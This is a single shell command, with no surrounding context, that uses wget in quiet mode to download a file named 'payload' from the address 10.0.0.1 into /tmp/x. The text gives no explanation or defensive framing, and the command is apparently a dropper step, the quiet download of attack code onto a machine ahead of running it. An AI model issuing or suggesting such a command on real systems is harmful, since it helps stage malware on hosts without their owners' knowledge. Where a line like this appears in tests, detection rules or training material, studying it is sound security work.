wget -qO /tmp/x http://10.0.0.1/payload
